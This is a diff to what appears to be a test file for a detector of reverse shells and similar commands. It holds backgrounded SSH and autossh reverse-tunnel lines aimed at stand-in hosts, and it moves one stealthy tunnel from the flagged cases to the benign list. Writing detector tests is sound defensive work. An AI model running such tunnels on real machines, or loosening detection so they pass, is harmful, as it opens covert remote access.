@@ -25,10 +25,6 @@ fn a_machine_that_is_given_away_is_reported() {
         ),
         (
             Rule::ReverseShell,
-            "nohup ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 a@r.example.invalid >/dev/null 2>&1 &",
-        ),
-        (
-            Rule::ReverseShell,
             "autossh -M 0 -f -N -o UserKnownHostsFile=/dev/null -R0:127.0.0.1:22 t@203.0.113.9 &>/dev/null &",
         ),
     ] {
@@ -47,6 +43,7 @@ fn honest_miners_accounts_and_tunnels_are_left_alone() {
         "usermod -u 1000 -o dev",
         "ssh -R 80:localhost:3000 a@r.example.invalid",
         "ssh -N -R 2222:localhost:22 me@r.example.invalid",
+        "nohup ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 a@r.example.invalid >/dev/null 2>&1 &",
         "nohup ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 \"$RELAY\" >/dev/null 2>&1 &",
         "curl -o out.json -u user:pass https://api.example.invalid/x >/dev/null 2>&1 &",
     ] {
